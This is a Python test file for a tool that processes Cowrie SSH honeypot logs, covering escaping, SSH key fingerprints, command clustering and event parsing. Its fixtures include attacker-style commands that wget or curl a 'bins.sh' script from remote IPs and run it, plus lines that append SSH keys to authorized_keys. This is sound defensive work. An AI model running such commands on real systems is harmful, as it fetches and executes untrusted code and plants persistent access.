"""Pure functions: text escaping, SSH key fingerprints, command signatures, line reading, parsing."""

from __future__ import annotations

import io
import json

import paramiko
import pytest

from cowrieprocessor.ingestion import logfiles
from cowrieprocessor.ingestion.events import Event, Rejection, parse_line
from cowrieprocessor.ingestion.sshkeys import find_keys, parse_key
from cowrieprocessor.ingestion.summaries import command_signature, normalise_command
from cowrieprocessor.storage.textsafe import escape_json, escape_text, unescape_text
from tests.ingestion.builders import ssh_key_line


@pytest.mark.parametrize(
    "original",
    ["plain", "a\x00b", "\x00", "\u2400", "\u24000", "x\u2400\x00y", "\ud800lone", "\u2400u0041", "", "\\u0000"],
)
def test_escape_is_reversible_and_nul_free(original: str) -> None:
    stored = escape_text(original)
    assert "\x00" not in stored
    assert not any(0xD800 <= ord(c) <= 0xDFFF for c in stored)
    stored.encode("utf-8")  # storable as UTF-8
    assert unescape_text(stored) == original


def test_escape_leaves_ordinary_text_alone() -> None:
    assert escape_text("wget http://1.2.3.4/x; echo \\n") == "wget http://1.2.3.4/x; echo \\n"
    assert escape_json({"k\x00": ["v\x00", 1, None]}) == {"k\u24000": ["v\u24000", 1, None]}


def test_fingerprint_matches_paramiko() -> None:
    key = paramiko.RSAKey.generate(1024)
    line = f"{key.get_name()} {key.get_base64()} someone@host"
    parsed = parse_key(line)
    assert parsed is not None
    assert parsed.fingerprint_sha256 == key.fingerprint  # paramiko: "SHA256:" + unpadded base64
    assert parsed.fingerprint_md5 == ":".join(f"{b:02x}" for b in key.get_fingerprint())
    assert parsed.comment == "someone@host"


def test_find_keys_rejects_fake_base64_and_finds_several() -> None:
    real, _ = ssh_key_line(3)
    other, _ = ssh_key_line(4)
    assert find_keys("echo ssh-rsa AAAAnotakey >> .ssh/authorized_keys") == []
    found = find_keys(f'echo "{real}\\n{other}" >> ~/.ssh/authorized_keys')
    assert [k.key_data for k in found] == [real.split()[1], other.split()[1]]


def test_command_signature_clusters_same_script_from_different_servers() -> None:
    a = ["cd /tmp", "wget http://198.51.100.4/bins.sh", "curl -O 198.51.100.4:8080/x", "  sh   bins.sh "]
    b = ["cd /tmp", "wget http://203.0.113.9/bins.sh", "curl -O 203.0.113.9:80/x", "sh bins.sh"]
    c = ["cd /tmp", "wget http://203.0.113.9/bins.sh", "sh other.sh"]
    assert command_signature(a) == command_signature(b)
    assert command_signature(a) != command_signature(c)
    assert command_signature([]) is None
    assert normalise_command("echo  deadbeefdeadbeef00 x") == "echo <hex> x"


def test_iter_lines_offsets_long_lines_and_tail() -> None:
    data = b'{"a":1}\n' + b"x" * 50 + b"\n\n" + b'{"b":2}\n' + b"tail-no-newline"
    pieces = list(logfiles.iter_lines(io.BytesIO(data), 0, max_line=20))
    kinds = [(p[0], p[2]) for p in pieces]
    assert kinds == [(0, logfiles.LINE), (8, logfiles.TOO_LONG), (59, logfiles.LINE), (60, logfiles.LINE),
                     (68, logfiles.TAIL)]  # fmt: skip
    for offset, raw, kind, _detail, end in pieces:
        if kind == logfiles.LINE:
            assert data[offset:end] == raw + b"\n"
    assert pieces[-1][1] == b"tail-no-newline"


def test_parse_line_accepts_unknown_and_ipv6_and_rejects_bad() -> None:
    good = {"eventid": "cowrie.future.thing", "session": "s" * 40, "timestamp": "2025-02-25T10:00:00.123456Z",
            "src_ip": "2001:DB8:0:0::1"}  # fmt: skip
    event = parse_line(json.dumps(good).encode())
    assert isinstance(event, Event) and event.src_ip == "2001:db8::1"
    cases = {
        b"not json": "invalid_json",
        b"\xff\xfe\x00garbage": "invalid_utf8",
        b"[1,2]": "not_an_object",
        json.dumps({**good, "eventid": None}).encode(): "missing_eventid",
        json.dumps({k: v for k, v in good.items() if k != "session"}).encode(): "missing_session",
        json.dumps({k: v for k, v in good.items() if k != "timestamp"}).encode(): "missing_timestamp",
        json.dumps({**good, "timestamp": "yesterday"}).encode(): "bad_timestamp",
        json.dumps({**good, "timestamp": "2025-02-25T10:00:00"}).encode(): "bad_timestamp",
        json.dumps({**good, "src_ip": "999.1.1.1"}).encode(): "invalid_ip",
        b'{"eventid":"x","session":"s","timestamp":"2025-02-25T10:00:00Z","v":NaN}': "invalid_json",
    }
    for raw, reason in cases.items():
        result = parse_line(raw)
        assert isinstance(result, Rejection) and result.reason == reason, (raw, result)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("echo \u2400 raw", True),  # U+2400 as raw UTF-8, no escape sequence anywhere in the line
        ("echo \\u2400 escaped", True),  # the same character as a JSON escape
        ("echo \\u0000", True),  # NUL, which PostgreSQL cannot hold
        ("caf\u00e9 \u65e5\u672c", False),  # other non-ASCII text is stored as it is
        ("plain ascii", False),
    ],
)
def test_only_lines_postgresql_cannot_hold_take_the_escaped_path(text: str, escaped: bool) -> None:
    line = (
        '{"eventid":"cowrie.command.input","session":"abc","timestamp":"2025-02-20T00:00:00.000000Z",'
        f'"input":"{text}"}}'
    ).encode()
    event = parse_line(line)
    assert isinstance(event, Event)
    assert (event.payload is not None) is escaped
    if escaped:
        assert b"\\u0000" not in event.payload and "\u2400".encode() in event.payload  # type: ignore[operator]
    assert event.raw == line  # the original is kept byte for byte either way
